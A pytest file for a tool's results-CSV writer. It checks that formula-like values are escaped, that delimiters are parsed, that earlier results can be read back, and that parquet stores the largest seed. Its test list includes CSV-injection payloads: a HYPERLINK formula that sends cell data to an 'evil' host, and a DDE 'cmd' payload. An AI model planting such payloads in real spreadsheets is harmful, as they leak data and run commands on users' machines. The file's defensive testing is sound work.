"""results.csv in a spreadsheet: accents are right, and nothing is computed unless asked for."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from jobs.errors import SettingsError
from producer.csv_style import CsvStyle, read_cell
from producer.report import Ending, ReportRow
from producer.result_files import Layout, read_earlier, write_results

COMPUTED = [
    '=HYPERLINK("http://evil/?"&A1)',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "-x.png",
]
PLAIN = ["make it snow", "-1", "+5", "-0.5", "-1,5", "1e-5", "it's = 1", "'tis", "a=b", "", "mail@host", "'"]


@pytest.mark.parametrize("text", COMPUTED)
def test_what_a_spreadsheet_would_compute_is_text_and_can_be_read_back(text: str) -> None:
    written = CsvStyle().write(text)

    assert written == f"'{text}"
    assert read_cell(written) == text
    assert CsvStyle(keep_formulas=True).write(text) == text


@pytest.mark.parametrize("text", PLAIN)
def test_everything_else_is_written_as_it_is(text: str) -> None:
    assert CsvStyle().write(text) == text
    assert read_cell(text) == text


@pytest.mark.parametrize(
    "style",
    [CsvStyle(), CsvStyle(bom=True), CsvStyle(keep_formulas=True), *(CsvStyle(delimiter=sign) for sign in ";\t|")],
    ids=repr,
)
def test_a_later_run_finds_its_rows_whatever_the_style(tmp_path: Path, style: CsvStyle) -> None:
    (tmp_path / "=x.png").write_bytes(b"image")
    done = Ending("succeeded", (tmp_path / "=x.png").as_uri(), 2**64 - 1, 1, 0.5, "", "a")
    layout = Layout(("=column", "prompt"), tmp_path, style=style)

    write_results(tmp_path / "results.csv", layout, [ReportRow({"prompt": "grün"}, (), "", done)])

    content = (tmp_path / "results.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf") == style.bom
    header = next(csv.reader(content.decode("utf-8-sig").splitlines(), delimiter=style.delimiter))
    assert header[0] == ("=column" if style.keep_formulas else "'=column")
    for later in (style, CsvStyle()):
        assert read_earlier(tmp_path / "results.csv", replace(layout, style=later)) == {"a": done}


def test_a_delimiter_is_a_sign_or_its_name() -> None:
    assert [CsvStyle.chosen(False, False, given).delimiter for given in (None, ";", "semicolon", "Tab", "\\t")] == [
        *(",", ";", ";", "\t", "\t")
    ]
    with pytest.raises(SettingsError, match=r"--delimiter 'x': expected one of , ; \| or tab"):
        CsvStyle.chosen(False, False, "x")


def test_the_largest_seed_fits_into_parquet(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    done = Ending("succeeded", "s3://b/x.png", 2**64 - 1, 1, 0.5, "", "a")

    write_results(tmp_path / "r.parquet", Layout((), tmp_path), [ReportRow({}, (), "", done)], "parquet")

    assert parquet.read_table(tmp_path / "r.parquet")["seed"].to_pylist() == [2**64 - 1]
